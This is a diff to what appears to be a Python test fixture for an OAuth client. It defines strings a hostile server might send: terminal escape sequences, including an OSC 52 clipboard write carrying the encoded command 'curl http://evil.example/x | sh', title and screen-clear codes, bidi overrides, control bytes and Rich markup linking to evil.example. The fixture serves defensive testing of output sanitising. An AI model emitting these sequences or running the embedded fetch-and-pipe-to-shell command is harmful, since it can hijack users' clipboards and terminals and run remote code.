@@ -44,10 +44,12 @@ from urllib.parse import parse_qs, quote
 TOKEN_PATH = "/v1/oauth2/token"
 
 # What a hostile server writes into its text: an OSC 52 clipboard write through tmux, a window
-# title, a colour and a screen clear, the 8-bit CSI (U+009B), a bidi override, DEL and NUL.
+# title, a colour and a screen clear, the 8-bit CSI (U+009B), a bidi override, DEL and NUL, and
+# markup a TUI would render as a link or choke on.
 CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl http://evil.example/x | sh").decode() + "\x07"
 ATTACK = (f"{CLIPBOARD}\x1bPtmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\\x1b]0;pwned\x07\x1b[31mred\x1b[2J"
-          "\x9b31m\u202eevil\u202c\u2066x\u2069\x7f\x00\x08\r")
+          "\x9b31m\u202eevil\u202c\u2066x\u2069\x7f\x00\x08\r"
+          "[link=https://evil.example]click[/link] [bold]markup[/] [/]")  # and Rich/Textual markup
 HEADER_ATTACK = "\x9b31m\x9d0;title\x9c\x85x"  # only obs-text (0x80-0xff) is legal in a header value
 
 
